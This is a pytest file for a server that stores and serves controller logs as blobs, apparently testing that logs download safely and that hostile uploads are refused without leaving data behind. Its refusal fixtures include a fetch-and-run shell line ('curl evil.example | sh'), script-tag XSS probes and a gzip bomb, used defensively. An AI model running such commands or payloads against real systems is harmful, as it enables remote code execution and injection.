"""Controller logs as blobs over HTTP, on SQLite and PostgreSQL: a text or gzip log is stored and served as a
download that no browser renders; markup, binaries, gzip bombs, oversize logs and wrong hashes are refused with a
stable code, and a refused upload leaves nothing behind (no blob, no staged bytes, no quota used)."""

from __future__ import annotations

import gzip
import hashlib

import httpx
import pytest

from server.blobs.catalog import BlobCatalog
from tests.photos import images
from tests.photos.world import World, auth, json_error

TEXT = "text/plain; charset=utf-8"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def bmc_log(tag: str, lines: int = 200) -> bytes:
    """A BMC system event log dump, distinct per test (the module's world is shared)."""
    rows = [
        f"{i:5d} | 11/02/2026 | 09:{i % 60:02d}:00 | Fan #{i % 6} | Lower Critical going low | {tag}"
        for i in range(lines)
    ]
    return ("\ufeffSEL dump — BMC 2.14 (µC ok)\n" + "\n".join(rows) + "\n").encode()


def put_log(
    client: httpx.Client,
    world: World,
    user: str,
    data: bytes,
    *,
    chunk: int | None = None,
    name: str | None = None,
    content_type: str = TEXT,
) -> httpx.Response:
    """Upload as a log in chunks of ``chunk`` bytes (whole when None); the last answer."""
    step = chunk or len(data)
    response = None
    for start in range(0, len(data), step):
        end = min(start + step, len(data))
        headers = {
            **auth(world, user),
            "Content-Type": content_type,
            "Content-Range": f"bytes {start}-{end - 1}/{len(data)}",
        }
        response = client.put(f"/api/v1/blobs/{name or sha(data)}", content=data[start:end], headers=headers)
        if response.status_code >= 300:
            return response
    assert response is not None
    return response


def left_nothing(world: World, client: httpx.Client, name: str, *, files_before: int, used_before: int) -> bool:
    catalog = BlobCatalog(world.store.engine)
    after = client.head(f"/api/v1/blobs/{name}", headers=auth(world, "alice"))
    files = len(world.stored_names())
    return (
        catalog.stored(name) is None
        and after.status_code == 404
        and after.headers["upload-offset"] == "0"
        and files == files_before
        and catalog.usage(world.orgs["alice"]) == used_before
    )


def test_a_log_uploaded_in_chunks_is_served_as_a_plain_text_attachment_with_nosniff(world: World) -> None:
    data = bmc_log("chunks")
    with world.server() as (client, _):
        created = put_log(client, world, "alice", data, chunk=4096)
        state = client.head(f"/api/v1/blobs/{sha(data)}", headers=auth(world, "alice"))
        got = client.get(f"/api/v1/blobs/{sha(data)}", headers={**auth(world, "alice"), "Accept": "text/html"})
        stranger = client.get(f"/api/v1/blobs/{sha(data)}", headers=auth(world, "bob"))
    assert created.status_code == 201, created.text
    assert created.json() == {
        "sha256": sha(data),
        "size": len(data),
        "media_type": TEXT,
        "width": 0,
        "height": 0,
        "complete": True,
    }
    assert state.status_code == 200 and state.headers["content-type"] == TEXT
    assert got.status_code == 200 and got.content == data
    assert got.headers["content-type"] == TEXT
    assert got.headers["x-content-type-options"] == "nosniff"
    assert got.headers["content-disposition"] == f'attachment; filename="{sha(data)[:16]}.log"'
    assert "sandbox" in got.headers["content-security-policy"]
    assert (stranger.status_code, json_error(stranger)) == (404, "not_found")  # another organization: not its log


def test_a_gzip_log_is_kept_as_sent_and_served_as_a_gzip_attachment(world: World) -> None:
    data = gzip.compress(bmc_log("gzip", lines=5000), mtime=0)
    with world.server() as (client, _):
        created = put_log(client, world, "alice", data, content_type="application/gzip")
        got = client.get(f"/api/v1/blobs/{sha(data)}", headers={**auth(world, "alice"), "Accept-Encoding": "identity"})
    assert created.status_code == 201 and created.json()["media_type"] == "application/gzip"
    assert got.content == data and got.headers["content-type"] == "application/gzip"
    assert "content-encoding" not in got.headers  # the bytes are the blob: they still hash to its name
    assert got.headers["content-disposition"].endswith('.log.gz"')
    assert got.headers["x-content-type-options"] == "nosniff"


def _bomb() -> bytes:
    return gzip.compress(b"\n" * (8 * 1024 * 1024), compresslevel=9, mtime=0)  # ~8 KiB that unpacks to 8 MiB


@pytest.mark.parametrize(
    ("data", "status", "code"),
    [
        (images.HTML, 415, "blob_unsupported_type"),
        (images.SVG, 415, "blob_unsupported_type"),
        (b"\xef\xbb\xbf  <!DOCTYPE html><title>x</title><script>alert(1)</script>", 415, "blob_unsupported_type"),
        (b"#!/bin/sh\ncurl evil.example | sh\n", 415, "blob_unsupported_type"),
        (b"SEL dump\n" + b"<ScRiPt>alert(1)</script>\n", 415, "blob_unsupported_type"),
        (b"ELF\x7f\x02\x01\x01\x00\x00\x00 raid firmware", 422, "blob_not_text"),
        (images.png(16, 16), 422, "blob_not_text"),  # a picture declared as a log never reaches an image decoder
        (b"caf\xe9 latin-1 is not UTF-8\n", 422, "blob_not_text"),
        (gzip.compress(b"<html><body>hi</body></html>", mtime=0), 415, "blob_unsupported_type"),
        (_bomb(), 413, "blob_unpacked_too_large"),
        (gzip.compress(b"controller log\n" * 100, mtime=0)[:-9], 422, "blob_damaged"),
    ],
    ids=[
        "html",
        "svg",
        "bom-doctype",
        "shebang",
        "script-tag-inside",
        "nul-bytes",
        "png",
        "latin1",
        "gzip-html",
        "gzip-bomb",
        "truncated-gzip",
    ],
)
def test_hostile_logs_get_a_stable_code_and_leave_nothing_behind(
    world: World, data: bytes, status: int, code: str
) -> None:
    content_type = "application/gzip" if data.startswith(b"\x1f\x8b") else TEXT
    catalog = BlobCatalog(world.store.engine)
    with world.server(blob_log_max_text_bytes=1024 * 1024) as (client, _):
        files_before = len(world.stored_names())
        used_before = catalog.usage(world.orgs["alice"])
        refused = put_log(client, world, "alice", data, chunk=max(1, len(data) // 2), content_type=content_type)
        assert (refused.status_code, json_error(refused)) == (status, code), refused.text
        assert left_nothing(world, client, sha(data), files_before=files_before, used_before=used_before)


def test_a_log_over_the_log_cap_is_refused_before_its_body_is_read_though_a_picture_that_size_fits(
    world: World,
) -> None:
    data = bmc_log("oversize", lines=2000)
    with world.server(blob_log_max_bytes=len(data) - 1) as (client, transport):
        before = transport.body_bytes
        refused = put_log(client, world, "alice", data, chunk=len(data))
        read = transport.body_bytes - before
        files_before = len(world.stored_names())
        assert left_nothing(
            world,
            client,
            sha(data),
            files_before=files_before,
            used_before=BlobCatalog(world.store.engine).usage(world.orgs["alice"]),
        )
    assert (refused.status_code, json_error(refused)) == (413, "blob_too_large")
    assert refused.json()["error"]["details"] == {"max": len(data) - 1, "size": len(data)}
    assert read <= 16 * 1024
    assert len(data) < 16 * 1024 * 1024  # the picture cap: the log cap is its own, smaller one


def test_a_log_whose_bytes_do_not_match_its_name_is_refused_and_discarded(world: World) -> None:
    data = bmc_log("hash")
    wrong = sha(b"another log")
    catalog = BlobCatalog(world.store.engine)
    with world.server() as (client, _):
        files_before = len(world.stored_names())
        used_before = catalog.usage(world.orgs["alice"])
        refused = put_log(client, world, "alice", data, chunk=2048, name=wrong)
        assert (refused.status_code, json_error(refused)) == (422, "blob_hash_mismatch")
        assert left_nothing(world, client, wrong, files_before=files_before, used_before=used_before)


def test_text_declared_as_a_picture_is_still_refused_as_a_picture(world: World) -> None:
    data = bmc_log("undeclared")
    with world.server() as (client, _):
        refused = client.put(f"/api/v1/blobs/{sha(data)}", content=data, headers=auth(world, "alice"))
    assert (refused.status_code, json_error(refused)) == (415, "blob_unsupported_type")
